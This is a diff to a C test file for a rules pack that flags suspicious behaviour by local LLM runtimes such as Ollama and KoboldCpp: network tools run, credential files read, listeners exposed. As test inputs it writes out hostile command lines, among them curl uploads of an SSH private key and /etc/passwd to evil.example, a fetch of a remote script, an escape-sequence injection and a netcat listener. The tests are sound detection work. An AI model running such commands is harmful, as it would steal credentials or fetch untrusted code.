@@ -53,6 +53,64 @@ static const char *ex(const char *tool, const char *filename)
 	return rt_ids(pack, &ev);
 }
 
+/* The command line argv (NULL: unknown) in an event, whole unless cut. */
+static void set_argv(struct lw_event *ev, const char *argv, const char *root_argv, bool cut)
+{
+	ev->argv = argv;
+	ev->argv_state = !argv ? EVENT_ARGV_UNKNOWN : cut ? EVENT_ARGV_CUT : EVENT_ARGV_FULL;
+	ev->root_argv = root_argv;
+	ev->root_argv_state = root_argv ? EVENT_ARGV_FULL : EVENT_ARGV_UNKNOWN;
+}
+
+/* Rule ids for an exec of filename by tool, the process's and its root's command lines. */
+static const char *ex_in(const char *tool, const char *filename, const char *argv,
+			 const char *root_argv)
+{
+	struct lw_event ev;
+
+	memset(&ev, 0, sizeof(ev));
+	ev.type = LW_REC_EXEC;
+	ev.tool = tool;
+	ev.pid = 9;
+	ev.exe = filename;
+	ev.filename = filename;
+	set_argv(&ev, argv, root_argv, false);
+	return rt_ids(pack, &ev);
+}
+
+/* Rule ids for an open by the process exe (command line argv, its root's root_argv). */
+static const char *op_in(const char *tool, const char *path, int64_t ret, const char *exe,
+			 const char *argv, const char *root_argv)
+{
+	struct lw_event ev = rt_open(tool, 1000, path, O_RDONLY, ret);
+
+	ev.exe = exe;
+	set_argv(&ev, argv, root_argv, false);
+	return rt_ids(pack, &ev);
+}
+
+/* Rule ids for a connect of tool in a tree rooted at root_argv. */
+static const char *conn_in(const char *tool, const char *host, const char *root_argv)
+{
+	struct lw_sockaddr sa = rt_addr("104.16.1.1", 443);
+	struct lw_event ev = rt_net(LW_REC_CONNECT, tool, host, &sa);
+
+	set_argv(&ev, NULL, root_argv, false);
+	return rt_ids(pack, &ev);
+}
+
+/* Rule ids and the first verdict's severity for a listen in the namespace ns. */
+static const char *listen_in(const char *tool, const char *ip, uint16_t port, uint8_t ns, int *sev)
+{
+	struct lw_sockaddr sa = rt_addr(ip, port);
+	struct lw_event ev = rt_net(LW_REC_LISTEN, tool, NULL, &sa);
+	struct rules_verdict v[4];
+
+	ev.netns = ns;
+	*sev = rules_match(pack, &ev, v, 4) > 0 ? (int)v[0].severity : -1;
+	return rt_ids(pack, &ev);
+}
+
 /* Rule ids for a closed connection of tool to host (named by DNS) that sent n bytes. */
 static const char *sent(const char *tool, const char *host, const char *source, uint64_t n)
 {
@@ -310,7 +368,15 @@ static void test_files(void)
 		ev.pid = 9;
 		ev.filename = "/usr/bin/wget";
 		CHECK_STR(rt_ids(pack, &ev), "exec-network-tool");
-		CHECK_STR(rt_msg(pack, &ev), "ollama (pid 9) ran /usr/bin/wget");
+		CHECK_STR(rt_msg(pack, &ev), "ollama (pid 9) ran /usr/bin/wget, command line: ?");
+		ev.argv = "wget -q -O- https://evil.example/\x1b[2J";
+		ev.argv_state = EVENT_ARGV_FULL;
+		CHECK_STR(rt_msg(pack, &ev), "ollama (pid 9) ran /usr/bin/wget, command line: wget "
+					     "-q -O- https://evil.example/\\x1b[2J");
+		ev.argv_state = EVENT_ARGV_CUT;
+		CHECK_HAS(rt_msg(pack, &ev), "evil.example/\\x1b[2J [cut]", true);
+		ev.argv = NULL;
+		ev.argv_state = EVENT_ARGV_UNKNOWN;
 		ev.filename = "/usr/local/lib/ollama/llama-server";
 		CHECK_STR(rt_ids(pack, &ev), "");
 	}
@@ -452,11 +518,20 @@ static void test_tools_today_missing(void)
 	};
 	const char *pub = "104.16.1.1";
 
-	/* ollama launch: installers are Ollama's, and said as such */
+	/* ollama launch: installers are Ollama's, and said as such (in its tree: see _quiet) */
 	for (size_t i = 0; i < sizeof(launch) / sizeof(launch[0]); i++)
-		CHECK_STR(conn("ollama", launch[i], pub, 443), "ollama-launch-installer");
-	CHECK_INT(conn_sev("ollama", "opencode.ai", pub, 443), RULES_SEV_LOW);
-	CHECK_HAS(conn_msg("ollama", "opencode.ai", pub, 443), "ollama launch", true);
+		CHECK_STR(conn_in("ollama", launch[i], "/usr/local/bin/ollama launch opencode"),
+			  "ollama-launch-installer");
+	{
+		struct lw_sockaddr sa = rt_addr(pub, 443);
+		struct lw_event ev = rt_net(LW_REC_CONNECT, "ollama", "opencode.ai", &sa);
+		struct rules_verdict v[4];
+
+		set_argv(&ev, NULL, "ollama launch", false);
+		CHECK_INT(rules_match(pack, &ev, v, 4), 1);
+		CHECK_INT(v[0].severity, RULES_SEV_LOW);
+		CHECK_HAS(v[0].message, "ollama launch", true);
+	}
 	CHECK_STR(conn("lm-studio", "registry.npmjs.org", pub, 443), "egress-unknown");
 	/* a host added to OLLAMA_REMOTES is unexplained until the user names it */
 	CHECK_STR(conn("ollama", "dashscope.example", pub, 443), "egress-unknown");
@@ -520,21 +595,85 @@ static void test_tools_today_quiet(void)
 {
 	const char *pub = "104.16.1.1";
 
-	/* koboldcpp's model download and ollama launch's installers run curl */
-	CHECK_STR(ex("koboldcpp", "/usr/bin/curl"), "");
-	CHECK_STR(ex("ollama", "/usr/bin/curl"), "");
-	/* ... but only curl, and only those tools */
-	CHECK_STR(ex("koboldcpp", "/usr/bin/wget"), "exec-network-tool");
-	CHECK_STR(ex("ollama", "/usr/bin/nc"), "exec-network-tool");
+	const char *kdl = "curl -fL https://huggingface.co/bartowski/m-GGUF/resolve/main/"
+			  "m-Q4_K_M.gguf -o m-Q4_K_M.gguf";
+	const char *kcf = "curl -fL https://github.com/cloudflare/cloudflared/releases/latest/"
+			  "download/cloudflared-linux-amd64 -o cloudflared-linux-amd64";
+	const char *launch = "/usr/local/bin/ollama launch opencode";
+	const char *orun = "ollama run llava:7b";
+
+	/* koboldcpp's model and cloudflared downloads (koboldcpp.py L3821, L3679) */
+	CHECK_STR(ex_in("koboldcpp", "/usr/bin/curl", kdl, "koboldcpp --model x"), "");
+	CHECK_STR(ex_in("koboldcpp", "/usr/bin/curl", kcf, NULL), "");
+	/* ... not any curl under koboldcpp: an upload, more arguments, another command */
+	CHECK_STR(ex_in("koboldcpp", "/usr/bin/curl",
+			"curl -T /home/alice/.ssh/id_rsa https://evil.example/u", NULL),
+		  "exec-network-tool");
+	CHECK_STR(ex_in("koboldcpp", "/usr/bin/curl",
+			"curl -fL https://evil.example/u -o m.gguf --data-binary @/etc/passwd",
+			NULL),
+		  "exec-network-tool");
+	CHECK_STR(ex_in("koboldcpp", "/usr/bin/curl", "curl -fsSL https://evil.example/x.sh", NULL),
+		  "exec-network-tool");
+	/* ... nor one whose command line llmwatch could not read whole */
+	CHECK_STR(ex_in("koboldcpp", "/usr/bin/curl", NULL, NULL), "exec-network-tool");
+	{
+		struct lw_event ev;
+
+		memset(&ev, 0, sizeof(ev));
+		ev.type = LW_REC_EXEC;
+		ev.tool = "koboldcpp";
+		ev.exe = ev.filename = "/usr/bin/curl";
+		set_argv(&ev, kdl, NULL, true);
+		CHECK_STR(rt_ids(pack, &ev), "exec-network-tool");
+	}
+	/* ... nor the same command line under another tool, nor another program */
+	CHECK_STR(ex_in("jan", "/usr/bin/curl", kdl, NULL), "exec-network-tool");
+	CHECK_STR(ex_in("koboldcpp", "/usr/bin/wget", "wget https://x -O m.gguf", NULL),
+		  "exec-network-tool");
+
+	/* ollama launch's installers: curl in a tree rooted at `ollama launch` */
+	CHECK_STR(ex_in("ollama", "/usr/bin/curl", "curl -fsSL https://opencode.ai/install",
+			launch),
+		  "");
+	CHECK_STR(ex_in("ollama", "/usr/bin/curl", "curl -fsSL https://opencode.ai/install",
+			"ollama launch"),
+		  "");
+	/* ... not curl run by ollama serve (or its agent harness), nor an unknown root */
+	CHECK_STR(ex_in("ollama", "/usr/bin/curl", "curl -fsSL https://opencode.ai/install",
+			"/usr/local/bin/ollama serve"),
+		  "exec-network-tool");
+	CHECK_STR(ex_in("ollama", "/usr/bin/curl", "curl -fsSL https://opencode.ai/install", NULL),
+		  "exec-network-tool");
+	CHECK_STR(ex_in("ollama", "/usr/bin/curl", "curl x", "/usr/local/bin/ollama launcher"),
+		  "exec-network-tool");
+	CHECK_STR(ex_in("ollama", "/usr/bin/nc", "nc -l 4444", launch), "exec-network-tool");
 	CHECK_STR(ex("jan", "/usr/bin/curl"), "exec-network-tool");
 	CHECK_STR(ex("localai", "/usr/bin/curl"), "exec-network-tool");
+	/* ... and where they connect: the installer hosts only from ollama launch */
+	CHECK_STR(conn_in("ollama", "opencode.ai", launch), "ollama-launch-installer");
+	CHECK_STR(conn_in("ollama", "registry.npmjs.org", "ollama launch"),
+		  "ollama-launch-installer");
+	CHECK_STR(conn_in("ollama", "opencode.ai", "/usr/local/bin/ollama serve"),
+		  "egress-unknown");
+	CHECK_STR(conn_in("ollama", "opencode.ai", NULL), "egress-unknown");
 
 	/* ollama run attaching an image or a recording named in the prompt */
-	CHECK_STR(op("ollama", 1000, "/home/alice/Documents/cat.png", O_RDONLY, 3), "");
-	CHECK_STR(op("ollama", 1000, "/home/alice/Desktop/shots/IMG_0001.JPG", O_RDONLY, 3), "");
-	CHECK_STR(op("ollama", 1000, "/home/alice/Documents/a.jpeg", O_RDONLY, 3), "");
-	CHECK_STR(op("ollama", 1000, "/home/alice/Documents/a.webp", O_RDONLY, 3), "");
-	CHECK_STR(op("ollama", 1000, "/home/alice/Documents/memo.wav", O_RDONLY, 3), "");
+	CHECK_STR(op_in("ollama", "/home/alice/Documents/cat.png", 3, "/usr/local/bin/ollama", orun,
+			orun),
+		  "");
+	CHECK_STR(op_in("ollama", "/home/alice/Desktop/shots/IMG_0001.JPG", 3,
+			"/usr/local/bin/ollama", "/usr/local/bin/ollama run llava", NULL),
+		  "");
+	CHECK_STR(op_in("ollama", "/home/alice/Documents/a.jpeg", 3, "", orun, NULL), "");
+	CHECK_STR(op_in("ollama", "/home/alice/Documents/a.webp", 3, "", orun, NULL), "");
+	CHECK_STR(op_in("ollama", "/home/alice/Documents/memo.wav", 3, "", orun, NULL), "");
+	/* ... the server opens none (images come over its API) */
+	CHECK_STR(op_in("ollama", "/home/alice/Documents/cat.png", 3, "/usr/local/bin/ollama",
+			"/usr/local/bin/ollama serve", NULL),
+		  "file-user-documents");
+	CHECK_STR(op("ollama", 1000, "/home/alice/Documents/cat.png", O_RDONLY, 3),
+		  "file-user-documents");
 	/* other documents still count, and other tools opening images too */
 	CHECK_STR(op("ollama", 1000, "/home/alice/Documents/taxes.pdf", O_RDONLY, 3),
 		  "file-user-documents");
@@ -544,14 +683,39 @@ static void test_tools_today_quiet(void)
 		  "file-user-documents");
 
 	/* LocalAI's backend installs read ~/.docker/config.json (or fail to: no file) */
-	CHECK_STR(op("localai", 1000, "/home/alice/.docker/config.json", O_RDONLY, 3), "");
-	CHECK_STR(op("localai", 1000, "/home/alice/.docker/config.json", O_RDONLY, -ENOENT), "");
-	CHECK_STR(op("ollama", 1000, "/home/alice/.docker/config.json", O_RDONLY, 3),
+	CHECK_STR(op_in("localai", "/home/alice/.docker/config.json", 3, "/usr/local/bin/local-ai",
+			"local-ai run", NULL),
+		  "");
+	CHECK_STR(op_in("localai", "/home/alice/.docker/config.json", -ENOENT, "/usr/bin/localai",
+			NULL, NULL),
+		  "");
+	/* ... in the local-ai process itself: a backend it runs, or an unknown exe, alerts */
+	CHECK_STR(op_in("localai", "/home/alice/.docker/config.json", 3, "/usr/bin/python3",
+			"python3 backend.py --addr 127.0.0.1:40123", NULL),
 		  "file-credentials");
-	CHECK_STR(op("localai", 1000, "/home/alice/.ssh/id_rsa", O_RDONLY, 3), "file-credentials");
+	CHECK_STR(op_in("localai", "/home/alice/.docker/config.json", 3, "", NULL, NULL),
+		  "file-credentials");
+	CHECK_STR(op_in("localai", "/home/alice/.docker/config.json", -ENOENT, "/usr/bin/python3",
+			NULL, NULL),
+		  "file-sensitive-attempt");
+	CHECK_STR(op_in("ollama", "/home/alice/.docker/config.json", 3, "/usr/local/bin/local-ai",
+			NULL, NULL),
+		  "file-credentials");
+	CHECK_STR(op_in("localai", "/home/alice/.ssh/id_rsa", 3, "/usr/local/bin/local-ai", NULL,
+			NULL),
+		  "file-credentials");
 	/* ollama launch's npm reads ~/.npmrc */
-	CHECK_STR(op("ollama", 1000, "/home/alice/.npmrc", O_RDONLY, 3), "");
-	CHECK_STR(op("ollama", 1000, "/home/alice/.npmrc", O_RDONLY, -ENOENT), "");
+	CHECK_STR(op_in("ollama", "/home/alice/.npmrc", 3, "/usr/bin/node",
+			"npm install -g opencode-ai", launch),
+		  "");
+	CHECK_STR(op_in("ollama", "/home/alice/.npmrc", -ENOENT, "/usr/bin/node", NULL, launch),
+		  "");
+	/* ... only there: ollama serve reading it alerts */
+	CHECK_STR(op_in("ollama", "/home/alice/.npmrc", 3, "/usr/local/bin/ollama",
+			"/usr/local/bin/ollama serve", "/usr/local/bin/ollama serve"),
+		  "file-credentials");
+	CHECK_STR(op_in("ollama", "/home/alice/.npmrc", -ENOENT, "", NULL, NULL),
+		  "file-sensitive-attempt");
 	CHECK_STR(op("localai", 1000, "/home/alice/.npmrc", O_RDONLY, 3), "file-credentials");
 
 	/* LocalAI installs and GitHub release redirects are explained */
@@ -597,6 +761,117 @@ static void test_tools_today_quiet(void)
 	}
 }
 
+/* Issue 13: a listener in a container's own network namespace is not the host's exposure. */
+static void test_exposure_netns(void)
+{
+	static const struct {
+		const char *tool, *ip;
+		uint16_t port;
+		const char *host_rule;
+	} cases[] = {
+		{ "ollama", "0.0.0.0", 11434, "exposure-ollama" },
+		{ "lm-studio", "::", 1234, "exposure-lm-studio" },
+		{ "gpt4all", "0.0.0.0", 4891, "exposure-gpt4all" },
+		{ "jan", "0.0.0.0", 1337, "exposure-jan" },
+		{ "llama-server", "0.0.0.0", 8080, "exposure-port-8080" },
+		{ "localai", "0.0.0.0", 8080, "exposure-localai" },
+		{ "koboldcpp", "0.0.0.0", 5001, "exposure-koboldcpp" },
+		{ "vllm", "0.0.0.0", 8000, "exposure-vllm" },
+		{ "vllm", "10.0.0.5", 9999, "exposure-listen" },
+		{ "text-generation-webui", "0.0.0.0", 7860, "exposure-gradio" },
+		{ "text-generation-webui", "0.0.0.0", 5000, "exposure-text-generation-webui-api" },
+		{ "open-webui", "0.0.0.0", 8080, "exposure-port-8080" },
+	};
+	int sev;
+
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		CHECK_STR(listen_in(cases[i].tool, cases[i].ip, cases[i].port, EVENT_NETNS_HOST,
+				    &sev),
+			  cases[i].host_rule);
+		CHECK(sev >= RULES_SEV_MEDIUM);
+		/* a namespace that could not be read counts as the host's */
+		CHECK_STR(listen_in(cases[i].tool, cases[i].ip, cases[i].port, EVENT_NETNS_UNKNOWN,
+				    &sev),
+			  cases[i].host_rule);
+		CHECK_STR(listen_in(cases[i].tool, cases[i].ip, cases[i].port, EVENT_NETNS_OTHER,
+				    &sev),
+			  "exposure-other-netns");
+		CHECK_INT(sev, RULES_SEV_LOW);
+	}
+	/* loopback stays quiet in any namespace */
+	CHECK_STR(listen_in("ollama", "127.0.0.1", 11434, EVENT_NETNS_OTHER, &sev), "");
+	{
+		struct lw_sockaddr sa = rt_addr("0.0.0.0", 11434);
+		struct lw_event ev = rt_net(LW_REC_LISTEN, "ollama", NULL, &sa);
+
+		ev.netns = EVENT_NETNS_OTHER;
+		CHECK_HAS(rt_msg(pack, &ev), "only through a published port", true);
+	}
+	CHECK_HAS(desc("exposure-other-netns"), "published port", true);
+}
+
+/* Issue 13 item 2: the rules of the new profiles (Open WebUI, AnythingLLM, text-generation-webui) */
+static void test_new_profiles(void)
+{
+	const char *pub = "104.16.1.1";
+	const char *m;
+
+	/* AnythingLLM's PostHog: its own rule, with the switch that turns it off */
+	CHECK_STR(conn("anythingllm", "us.i.posthog.com", pub, 443),
+		  "telemetry-anythingllm-posthog");
+	CHECK_STR(conn("anythingllm", "app.posthog.com", pub, 443),
+		  "telemetry-anythingllm-posthog");
+	CHECK_HAS(conn_msg("anythingllm", "us.i.posthog.com", pub, 443),
+		  "DISABLE_TELEMETRY=\"true\"", true);
+	CHECK_HAS(desc("telemetry-anythingllm-posthog"), "server/models/telemetry.js @064b0b8e",
+		  true);
+	/* Open WebUI's Chroma telemetry and its version check, each with its setting */
+	CHECK_STR(conn("open-webui", "us.i.posthog.com", pub, 443), "telemetry-chroma-posthog");
+	CHECK_HAS(conn_msg("open-webui", "us.i.posthog.com", pub, 443),
+		  "ANONYMIZED_TELEMETRY=false", true);
+	CHECK_STR(conn("open-webui", "api.github.com", pub, 443), "open-webui-version-check");
+	CHECK_HAS(conn_msg("open-webui", "api.github.com", pub, 443),
+		  "ENABLE_VERSION_UPDATE_CHECK=false", true);
+	/* the generic PostHog rule stays for the others, and api.github.com is not Open WebUI's */
+	CHECK_STR(conn("jan", "us.i.posthog.com", pub, 443), "telemetry-posthog");
+	CHECK_STR(conn("localai", "api.github.com", pub, 443), "localai-update-check");
+	CHECK_STR(conn("vllm", "api.github.com", pub, 443), "egress-unknown");
+
+	/* Open WebUI binds all interfaces on 8080 by default */
+	CHECK_STR(net(LW_REC_LISTEN, "open-webui", NULL, "0.0.0.0", 8080), "exposure-port-8080");
+	CHECK_STR(net(LW_REC_LISTEN, "open-webui", NULL, "127.0.0.1", 8080), "");
+
+	/* text-generation-webui: Gradio 7860 and API 5000 with --listen, loopback without */
+	CHECK_STR(net(LW_REC_LISTEN, "text-generation-webui", NULL, "0.0.0.0", 7860),
+		  "exposure-gradio");
+	CHECK_STR(net(LW_REC_LISTEN, "text-generation-webui", NULL, "127.0.0.1", 7860), "");
+	CHECK_STR(net(LW_REC_LISTEN, "text-generation-webui", NULL, "0.0.0.0", 5000),
+		  "exposure-text-generation-webui-api");
+	CHECK_STR(net(LW_REC_LISTEN, "text-generation-webui", NULL, "::", 5000),
+		  "exposure-text-generation-webui-api");
+	CHECK_STR(net(LW_REC_LISTEN, "text-generation-webui", NULL, "127.0.0.1", 5000), "");
+	/* port 5000 is text-generation-webui's only for it; others fall back */
+	CHECK_STR(net(LW_REC_LISTEN, "vllm", NULL, "0.0.0.0", 5000), "exposure-listen");
+	m = desc("exposure-text-generation-webui-api");
+	CHECK_HAS(m, "modules/api/script.py @1dcde41d L562-568", true);
+	CHECK_HAS(desc("exposure-gradio"), "server.py @1dcde41d L238", true);
+
+	/* --share: Gradio's share service and its frpc tunnel; --public-api: cloudflared */
+	CHECK_STR(conn("text-generation-webui", "abcdef.gradio.live", pub, 443),
+		  "exposure-gradio-share");
+	CHECK_STR(conn("text-generation-webui", "api.gradio.app", pub, 443), "gradio-api");
+	CHECK_STR(ex("text-generation-webui",
+		     "/home/u/.cache/huggingface/gradio/frpc/frpc_linux_amd64_v0.3"),
+		  "exposure-gradio-share-tunnel");
+	CHECK_STR(ex("text-generation-webui", "/tmp/cloudflared-linux-amd64"),
+		  "exposure-cloudflare-tunnel");
+	CHECK_HAS(desc("exposure-cloudflare-tunnel"), "--public-api", true);
+	CHECK_HAS(conn_msg("text-generation-webui", "api.trycloudflare.com", pub, 443),
+		  "text-generation-webui: by --public-api", true);
+	/* ordinary use stays quiet: the UI and API on loopback, a local model load */
+	CHECK_STR(net(LW_REC_CONNECT, "text-generation-webui", NULL, "127.0.0.1", 5000), "");
+}
+
 int main(void)
 {
 	test_loads();
@@ -608,6 +883,8 @@ int main(void)
 		test_tools_today();
 		test_tools_today_missing();
 		test_tools_today_quiet();
+		test_exposure_netns();
+		test_new_profiles();
 	}
 	rules_free(pack);
 	return check_summary("test_rules_pack");
